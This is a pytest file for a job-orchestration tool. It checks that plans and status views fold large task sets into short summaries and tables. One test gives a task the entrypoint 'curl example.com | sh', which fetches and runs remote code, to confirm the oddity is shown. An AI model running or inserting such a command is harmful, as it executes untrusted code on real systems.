"""Sets in plans and in the status: folded, counted, and never longer than a screen or two."""

from __future__ import annotations

import json
from typing import Any

import pytest
from msgspec import UNSET
from msgspec.structs import replace

from jobspec.errors import UsageError
from jobspec.manifest.task import SetRules, Task
from jobspec.reconcile.declared import marks_of
from jobspec.reconcile.order import hold
from jobspec.reconcile.planning.plan import Action, Reason
from jobspec.report.plan import html_page, markdown
from jobspec.report.plan import text as plan_text
from jobspec.report.plan.build import build_view
from jobspec.report.plan.view import PlanView
from jobspec.report.status import set_view
from jobspec.report.status import text as status_text
from jobspec.report.status import view as status_view
from jobspec.report.status.view import StatusView
from jobspec.report.view import PlatformView
from tests.reconcile.world import EPOCH, PLACE, SCOPE, planned, run, task

PLATFORM = PlatformView(kind="local", endpoint="/project/.jobspec")


def cell(index: int, **fields: Any) -> Task:
    axes = (("lr", str(index // 10)), ("seed", str(index % 10)), ("extra", "x"))
    return replace(task(f"sweep-{index:05}", **fields), set="sweep", cell=axes)


def view_of(*tasks: Task, stopping: tuple[Task, ...] = ()) -> PlanView:
    runs = [run(one, "Running", number, hours=2) for number, one in enumerate(stopping)]
    return build_view(planned([*tasks, *stopping], runs), PLATFORM, ())


def text_of(view: PlanView) -> str:
    return plan_text.render(view, now=EPOCH, colour=False)


def status_of(*tasks: Task, done: tuple[Task, ...] = (), failed: tuple[Task, ...] = ()) -> StatusView:
    ended = {"Success": done, "Failed": failed}
    runs = [
        run(one, state, number) for state, some in ended.items() for number, one in enumerate(some, start=1)
    ]
    plan = planned([*tasks, *done, *failed], runs)
    by_task = {one.name: found for one, found in zip([*done, *failed], runs, strict=True)}
    return status_view.view(plan, by_task, PLATFORM)


def test_a_set_is_one_row_with_counts_what_is_common_and_some_of_its_tasks() -> None:
    tasks = [replace(cell(number), description=f"cell {number}") for number in range(12)]
    text = text_of(view_of(*tasks, task("prepare")))
    assert text.count("+ submit") == 2
    assert "+ submit   set/sweep: 12 of 12 tasks  new" in text
    assert text.count("image: ml_platform/pytorch:1.7") == 2  # once for the set, once for the task
    assert text.count("command: python train.py") == 2
    assert "and 9 more tasks: sweep-00003, " in text


def test_what_only_some_tasks_have_is_not_shown_as_common() -> None:
    """The last of the tasks differs: no line may claim the opposite."""
    *same, last = [cell(number) for number in range(9)]
    other = replace(
        task(last.name, spec={"roles": [{"name": "worker", "replicas": 9, "flavor": "ml.big"}]}),
        set="sweep",
        cell=last.cell,
    )
    text = text_of(view_of(*same, other))
    assert "\n    image: ml_platform/pytorch:1.7\n" in text
    assert "\n    replicas: " not in text
    odd = "    1 task: sweep-00008\n      replicas: 9 ml.big (worker) in default, for up to 5d\n    8 tasks: "
    assert odd in text


def shard(number: int, **spec: Any) -> Task:
    """A task of `set/s` whose command and variables have the value of its cell."""
    command = {"entrypoint": f"python run.py --shard {number}", "env": {"TEAM": "v", "SHARD": str(number)}}
    return replace(task(f"s-{number}", spec=command | spec), set="s", cell=(("shard", str(number)),))


def test_a_task_with_another_command_and_secret_is_shown_wherever_it_is() -> None:
    env = {"TEAM": "v", "KEY": {"secret": {"env": "KEY"}}}
    tasks = [shard(number) for number in range(200)]
    tasks[177] = shard(177, entrypoint="curl example.com | sh", env=env)
    view = view_of(*tasks)
    for shown in (text_of(view), markdown.render(view, now=EPOCH), html_page.render(view, now=EPOCH)):
        assert "1 task: s-177" in shown
        assert "command: curl example.com | sh" in shown
        assert shown.count("reads: ") == 2  # of all, and of the task
        assert "199 tasks: s-0, s-1, s-2, " in shown


def test_mixed_flavors_are_kinds_of_a_fold_in_the_order_of_the_cells() -> None:
    roles = [{"name": "worker", "replicas": 1, "flavor": "ml.big"}]
    tasks = [shard(number, **({"roles": roles} if number in {155, 17, 90} else {})) for number in range(200)]
    text = text_of(view_of(*tasks))
    assert "    3 tasks: s-17, s-90, s-155\n      replicas: 1 ml.big (worker) in default, " in text
    assert "    differs between the tasks: command, replicas, env.SHARD\n" in text


def test_a_setting_that_is_no_value_of_the_cell_makes_a_kind() -> None:
    tasks = [shard(number) for number in range(20)]
    tasks[11] = shard(11, env={"TEAM": "other", "SHARD": "11"})
    assert "    1 task: s-11\n" in text_of(view_of(*tasks))


def test_a_set_in_which_every_command_is_another_shows_a_few() -> None:
    tasks = [shard(number, entrypoint=f"python run.py {number * 7919 + 13}") for number in range(300)]
    tasks[7] = shard(7, image="ml_platform/other:1")
    text = text_of(view_of(*tasks))
    assert text.count("\n") < 60
    assert "    1 task: s-7\n      image: ml_platform/other:1\n" in text
    assert "      s-0, for example:\n        command: python run.py 13\n" in text


def test_the_smallest_of_many_kinds_are_shown_and_the_others_counted() -> None:
    tasks = [
        shard(number, image=f"ml_platform/{'abcdefghijkl'[max(number, 8) % 12]}") for number in range(60)
    ]
    text = text_of(view_of(*tasks))
    assert text.count(" tasks: s-") == 8
    assert "and 4 more kinds, of so many tasks: 5, 5, 5, 13; -o json has all" in text
    assert text.count("\n") < 60


def test_common_settings_are_shown_once_and_names_are_in_natural_order() -> None:
    text = text_of(view_of(*(shard(number) for number in range(12))))
    assert text.count("env.TEAM=v") == 1
    assert "    s-2\n      command: python run.py --shard 2\n      settings: env.SHARD=2\n" in text
    assert "and 9 more tasks: s-3, s-4, s-5, s-6, s-7, s-8, s-9, s-10, s-11\n" in text


def test_the_command_is_shown_beside_a_large_set() -> None:
    text = text_of(view_of(*(cell(number) for number in range(50)), task("prepare")))
    assert text.count("command: python train.py") == 2


def test_the_number_of_declared_tasks_is_only_said_if_the_plan_has_them_all() -> None:
    gone = [run(cell(number, rerun="x"), "Running", number) for number in (5, 6)]
    gone = [replace(one, marks=replace(marks_of(one), set="sweep")) for one in gone]
    whole = build_view(planned([cell(number) for number in range(3)], gone), PLATFORM, ())
    assert "set/sweep: 3 of 3 tasks  new" in text_of(whole)
    assert "set/sweep: 2 tasks  removed" in text_of(whole)
    for part in (replace(whole, left_out=4), replace(whole, selected=("sweep-00001",))):
        assert "set/sweep: 3 tasks  new" in text_of(part)


def test_replicas_of_tasks_that_wait_are_counted_as_later() -> None:
    tasks = [cell(number) for number in range(30)]
    rules = SetRules("sweep", tuple(one.name for one in tasks), PLACE, max_active=4)
    plan = planned(tasks, [])
    plan = hold.hold(plan, plan, scope=SCOPE, declared=(tasks, [rules]), runs=[])
    view = build_view(plan, PLATFORM, ())
    assert "replicas: +8 ml.g1e.large in default; later: +52 ml.g1e.large in default\n" in text_of(view)
    assert text_of(view).count("command: python train.py") == 2
    comment = markdown.render(view, now=EPOCH)
    assert comment.count("command: python train.py") == 2
    assert "| `default` | `ml.g1e.large` | +8 |  | +52 |" in comment
    assert html_page.render(view, now=EPOCH).count("command: python train.py") == 2


@pytest.mark.long
def test_a_set_of_ten_thousand_tasks_prints_under_sixty_lines() -> None:
    tasks = tuple(cell(number) for number in range(10_000))
    assert text_of(view_of(*tasks)).count("\n") < 60
    status = status_of(*tasks[:6000], done=tasks[6000:])
    assert status_text.render(status, now=EPOCH, colour=False).count("\n") < 60
    assert status_text.render_sets(status, (), colour=False).count("\n") < 60


def test_what_stops_is_summed_and_each_is_named_in_a_comment() -> None:
    view = view_of(stopping=tuple(cell(number, suspend=True) for number in range(8)))
    text = text_of(view)
    assert "stops 8 runs: 32.00 replica-hours are lost" in text
    comment = markdown.render(view, now=EPOCH)
    assert all(f"`sweep-{number:05}`" in comment for number in range(8))


def test_a_comment_and_a_page_fold_new_runs() -> None:
    view = view_of(*(cell(number) for number in range(50)))
    comment = markdown.render(view, now=EPOCH)
    assert "- **submit** `set/sweep: 50 of 50 tasks` · `new`" in comment
    assert comment.count("\n") < 40
    assert "set/sweep: 50 of 50 tasks" in html_page.render(view, now=EPOCH)


def test_the_digest_does_not_depend_on_the_cell_and_the_json_has_it() -> None:
    found = view_of(*(cell(number) for number in range(3)))
    assert found.digest == view_of(*(replace(cell(number), cell=()) for number in range(3))).digest
    assert json.loads(found.to_json())["changes"][1]["cell"] == {"lr": "0", "seed": "1", "extra": "x"}
    assert '"set"' not in view_of(task("prepare")).to_json()


def test_the_status_has_a_line_for_a_set_and_rows_for_what_failed() -> None:
    status = status_of(cell(0), task("prepare"), done=(cell(1),), failed=(cell(2),))
    text = status_text.render(status, now=EPOCH, colour=False)
    assert "set/sweep: 3 tasks; 1 new, 1 succeeded, 1 failed" in text
    assert "sweep-00002" in text
    assert "sweep-00001" not in text
    assert "sweep-00001" in status_text.render_tasks(status, now=EPOCH, colour=False)


def test_the_table_of_a_set_has_two_axes_and_counts_the_others() -> None:
    text = status_text.render_sets(status_of(cell(0), cell(10), done=(cell(1), cell(11))), (), colour=False)
    assert "lr \\ seed  0    1\n0          new  succeeded\n1          new  succeeded\n" in text


def test_the_axes_of_the_table_can_be_chosen() -> None:
    status = status_of(cell(0), cell(10), done=(cell(1),))
    text = status_text.render_sets(status, ("seed", "extra"), colour=False)
    assert "seed \\ extra  x\n0             2 new\n1             succeeded\n" in text
    assert "\nseed  state\n0     2 new\n1     succeeded\n" in status_text.render_sets(
        status, ("seed",), colour=False
    )
    with pytest.raises(UsageError, match="is not an axis of set/sweep"):
        status_text.render_sets(status, ("sede",), colour=False)


@pytest.mark.parametrize("axes", [("lr", "lr"), ("lr", "seed", "extra")])
def test_a_table_has_at_most_two_different_axes(axes: tuple[str, ...]) -> None:
    with pytest.raises(UsageError, match="one axis, or two different ones"):
        status_text.render_sets(status_of(cell(0), cell(11)), axes, colour=False)


def test_sets_without_the_chosen_axes_are_left_out() -> None:
    status = status_of(cell(0), cell(11), shard(0), shard(1))
    text = status_text.render_sets(status, ("lr", "seed"), colour=False)
    assert "set/sweep" in text
    assert "set/s:" not in text
    with pytest.raises(UsageError, match="no set has all of these axes"):
        status_text.render_sets(status, ("lr", "shard"), colour=False)


def test_an_axis_that_tells_all_tasks_apart_has_rows_with_states() -> None:
    cells = [(("sample", str(number)), ("lr", f"0.{number}1")) for number in range(12)]
    tasks = [replace(shard(number), cell=axes) for number, axes in enumerate(cells)]
    text = status_text.render_sets(status_of(*tasks), (), colour=False)
    assert "\nsample  state\n0       new\n1       new\n2       new\n" in text


def test_values_are_in_the_order_of_the_manifest_unless_all_are_numbers() -> None:
    sizes = ["small", "large", "huge"]
    tasks = [
        replace(shard(number), cell=(("size", sizes[number // 3]), ("k", ("10", "9", "1e-1")[number % 3])))
        for number in range(9)
    ]
    rules = SetRules("s", tuple(one.name for one in tasks), PLACE)
    view = set_view.views(planned(tasks, []), SCOPE, (tasks, [rules]), ())
    status = replace(status_of(*tasks), sets=view)
    assert "size \\ k  1e-1  9    10\nsmall     new   new  new\nlarge " in status_text.render_sets(
        status, (), colour=False
    )


def test_a_task_without_a_cell_is_only_counted() -> None:
    status = status_of(cell(0), cell(11), replace(cell(7), cell=()))
    text = status_text.render_sets(status, (), colour=False)
    assert "set/sweep: 3 tasks; 3 new; 1 without a cell\nlr  state\n0   new\n1   new\n" in text


def test_what_is_next_is_counted_beside_the_states() -> None:
    status = status_of(done=tuple(cell(number) for number in range(3)))
    tasks = [replace(one, action="submit", reason="spec-changed") for one in status.tasks[:2]]
    waits = replace(status.tasks[2], action="none", reason="waiting")
    status = replace(status, tasks=(*tasks, waits))
    text = status_text.render(status, now=EPOCH, colour=False)
    assert "set/sweep: 3 tasks; 3 succeeded; next: 2 submit, 1 waiting" in text
    table = status_text.render_sets(status, ("seed",), colour=False)
    assert "0     succeeded → submit\n" in table
    assert "2     succeeded → waiting\n" in table


def test_blocked_tasks_are_shown_after_failed_ones_and_the_rest_is_counted() -> None:
    status = status_of(*(cell(number) for number in range(14)), failed=(cell(20),))
    held = [replace(one, reason="blocked-by-failure") if not one.run else one for one in status.tasks]
    text = status_text.render(replace(status, tasks=tuple(held)), now=EPOCH, colour=False)
    rows = [line.split()[0] for line in text.splitlines()[1:]]
    assert [row for row in rows if row.startswith("sweep-")] == [
        *(f"sweep-0000{number}" for number in range(4)),
        "sweep-00020",
    ]
    assert "  and 10 more tasks to look at; --by task shows all\n" in text


def test_the_line_of_a_set_has_its_status() -> None:
    tasks = [cell(number) for number in range(4)]
    runs = [run(tasks[0], "Success"), run(tasks[1], "Running", 2)]
    rules = SetRules("sweep", tuple(one.name for one in tasks), PLACE)
    whole = planned(tasks, runs)
    view = set_view.views(whole, SCOPE, (tasks, [rules]), runs)
    assert [one.status for one in view] == ["running"]
    status = replace(status_view.view(whole, {"sweep-00000": runs[0]}, PLATFORM), sets=view)
    assert "set/sweep (running): 4 tasks; " in status_text.render(status, now=EPOCH, colour=False)
    part = replace(whole, changes=whole.changes[:2])
    assert [one.status for one in set_view.views(part, SCOPE, (tasks, [rules]), runs)] == [UNSET]


def test_the_status_of_a_blocked_set() -> None:
    tasks = [cell(number) for number in range(3)]
    rules = SetRules("sweep", tuple(one.name for one in tasks), PLACE)
    plan = planned(tasks, [])
    held = [replace(one, reason=Reason.BLOCKED_BY_FAILURE, action=Action.NONE) for one in plan.changes]
    [found] = set_view.views(replace(plan, changes=tuple(held)), SCOPE, (tasks, [rules]), ())
    assert found.status == "blocked-by-failure"
